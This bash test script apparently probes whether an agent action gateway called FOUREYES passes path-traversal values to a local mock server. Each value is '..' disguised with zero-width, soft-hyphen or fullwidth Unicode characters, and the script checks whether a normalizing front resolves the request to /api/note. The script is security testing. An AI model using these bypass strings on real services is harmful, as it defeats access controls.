#!/usr/bin/env bash
# H2: a path value whose NFKC_Casefold form (NFKC, then Default_Ignorable_Code_Point removed) is `..` is sent by the
# http connector; a front that folds that way resolves /api/items/<v>/note to /api/note.
set -uo pipefail
FE=${FOUREYES_BIN:?set FOUREYES_BIN}; D=$(mktemp -d /tmp/attack33/h2.XXXX); PORT=${PORT:-18611}; HERE=$(cd "$(dirname "$0")" && pwd)
cd "$D"
python3 "$HERE/h2_front_nfkc_cf.py" $PORT & FP=$!; trap 'kill $FP' EXIT; sleep 1
cat > pol.yaml <<Y
version: 1
actions:
  shop.note:
    tier: 2
    limits: [{ count: 1000, per: 1h }]
    params:
      item: { type: string, max_len: 64 }
    execute:
      http:
        method: POST
        url: "http://127.0.0.1:$PORT/api/items/{{ params.item }}/note"
        body: '{"x": 1}'
        success: { status: [200] }
Y
i=0
for v in '.\u00ad.' '\u200b..' '..\u200b' '.\u200d.' '\uff0e\u00ad\uff0e' '\u2025\u00ad' '.\ufe0f.' '..\u034f' '\u00ad..' '.\U000e0041.' '..\u2060' '.\u180e.' '\u3164..'; do
  i=$((i+1)); P=$(python3 -c "import json,sys; print(json.dumps({'item': sys.argv[1].encode().decode('unicode_escape')}))" "$v")
  "$FE" --db fe.db --policy pol.yaml execute --agent bot --action shop.note --params "$P" --request-id n$i --json >/dev/null 2>&1
  echo "value $v: exit $?"
done
echo "front saw:"; cat hits.log
echo "reached /api/note: $(grep -c '"resolved": "/api/note"' hits.log) of $i"
